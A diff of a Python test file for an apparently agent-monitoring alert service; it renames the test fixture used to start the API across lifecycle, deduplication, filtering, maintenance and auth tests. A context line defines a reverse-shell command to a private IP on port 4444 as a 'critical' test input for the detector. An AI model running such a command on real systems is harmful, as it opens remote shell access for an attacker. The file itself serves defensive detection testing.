@@ -15,9 +15,6 @@ REVERSE = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"  # block / critical
 TOKEN = "admin-secret-token"
 
 
-@pytest.fixture
-def start(make_api):
-    return make_api
 
 
 def tool(command=PIPE, *, agent="a1", session="s1", ws="/w", **kw):
@@ -46,8 +43,8 @@ def recorder(api) -> list:
     return calls
 
 
-async def test_lifecycle_ack_silence_expiry_resolve_reopen(start):
-    api = await start()
+async def test_lifecycle_ack_silence_expiry_resolve_reopen(make_api):
+    api = await make_api()
     calls = recorder(api)
     await ingest(api, tool())
     listing = await alert_list(api)
@@ -112,8 +109,8 @@ async def test_lifecycle_ack_silence_expiry_resolve_reopen(start):
     assert status == 404 and body == {"statusCode": 404, "message": "alert not found", "error": "Not Found"}
 
 
-async def test_burst_of_identical_findings_is_one_alert_and_one_notification(start):
-    api = await start()
+async def test_burst_of_identical_findings_is_one_alert_and_one_notification(make_api):
+    api = await make_api()
     calls = recorder(api)
     base = now_ms() - 10_000  # distinct times: identical events at the same instant share one eventId
     await ingest(api, *[tool(at=base + i) for i in range(500)])
@@ -138,8 +135,8 @@ async def test_burst_of_identical_findings_is_one_alert_and_one_notification(sta
     assert calls.count((incident_alert, "opened")) == 1
 
 
-async def test_list_filters_pinning_summary_rules_and_order(start):
-    api = await start()
+async def test_list_filters_pinning_summary_rules_and_order(make_api):
+    api = await make_api()
     await ingest(api, tool(), tool(REVERSE, agent="b", session="s2", ws="/v"))
     listing = await alert_list(api)
     # order: status, then severity desc
@@ -191,8 +188,8 @@ async def test_list_filters_pinning_summary_rules_and_order(start):
     assert len((await alert_list(api, limit=1))["items"]) == 1
 
 
-async def test_source_rejections_and_check_ins(start):
-    api = await start(configure=alerts_module.attach)
+async def test_source_rejections_and_check_ins(make_api):
+    api = await make_api(configure=alerts_module.attach)
     created = await api.data("POST", "/sources", {"name": "fw", "type": "forwarder", "requireToken": True}, expect=201)
     source_id = created["source"]["sourceId"]
     for _ in range(2):
@@ -226,8 +223,8 @@ async def test_source_rejections_and_check_ins(start):
     assert next(a for a in (await alert_list(api, q="edge2"))["items"])["severity"] == "medium"
 
 
-async def test_collector_quality_and_availability(start):
-    api = await start()
+async def test_collector_quality_and_availability(make_api):
+    api = await make_api()
     beat = {"collectorId": "c1", "nodeName": "n1", "status": "degraded", "droppedEvents": 3}
     await api.data("POST", "/collectors/heartbeat", beat, expect=201)
     await api.data("POST", "/collectors/heartbeat", {"collectorId": "c2", "status": "degraded"}, expect=201)
@@ -266,8 +263,8 @@ async def test_collector_quality_and_availability(start):
     assert (await alert_list(api, alertId=silent[0]["alertId"]))["items"][0]["status"] == "resolved"
 
 
-async def test_config_and_alerting_off(start, monkeypatch):
-    api = await start()
+async def test_config_and_alerting_off(make_api, monkeypatch):
+    api = await make_api()
     config = await api.data("GET", "/alerts/config")
     assert config == {"enabled": True, "webhookConfigured": False, "webhookCooldownSecs": 300,
                       "incidentMinSeverity": "high", "eventMinSeverity": "critical", "agentOpenIncidentThreshold": 3,
@@ -276,7 +273,7 @@ async def test_config_and_alerting_off(start, monkeypatch):
     monkeypatch.setenv("ANYSENTRY_ALERTS", "off")
     monkeypatch.setenv("ANYSENTRY_ALERT_WEBHOOK_COOLDOWN_SECS", "5")
     monkeypatch.setenv("ANYSENTRY_ALERT_INCIDENT_MIN_SEVERITY", "bogus")
-    off = await start()
+    off = await make_api()
     config = await off.data("GET", "/alerts/config")
     assert config["enabled"] is False and config["webhookCooldownSecs"] == 30 and config["incidentMinSeverity"] == "high"
     await ingest(off, tool(REVERSE))
@@ -295,8 +292,8 @@ class FakeMaintenance:
         return {"windowId": "mw_1", "title": "upgrade"} if self.active and context.get("agentId") == "a1" else None
 
 
-async def test_maintenance_suppresses_and_resolves(start):
-    api = await start()
+async def test_maintenance_suppresses_and_resolves(make_api):
+    api = await make_api()
     maintenance = FakeMaintenance()
     api.services.ops.maintenance = maintenance
     await ingest(api, tool())
@@ -315,8 +312,8 @@ async def test_maintenance_suppresses_and_resolves(start):
     assert (await alert_list(api, alertId=aid))["items"][0]["status"] == "open"
 
 
-async def test_auth_owner_lookup_and_restart(start, tmp_path, store_database):
-    api = await start(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
+async def test_auth_owner_lookup_and_restart(make_api, tmp_path, store_database):
+    api = await make_api(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
     headers = {"X-AnySentry-Admin-Token": TOKEN}
     created = await api.data("POST", "/sources", {"name": "fw", "owner": "sec-team-lead", "team": "sec"},
                              headers=headers, expect=201)
@@ -338,7 +335,7 @@ async def test_auth_owner_lookup_and_restart(start, tmp_path, store_database):
     silenced_until = (await alert_list(api, alertId=other["alertId"]))["items"][0]["silencedUntil"]
 
     await api.services.stop()
-    again = await start(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
+    again = await make_api(admin_token=TOKEN, database=store_database, data_dir=tmp_path / "d")
     restored = {a["alertId"]: a for a in (await alert_list(again))["items"]}
     first = restored[owned["alertId"]]
     assert (first["status"], first["owner"], first["note"]) == ("acknowledged", "carol", "mine")
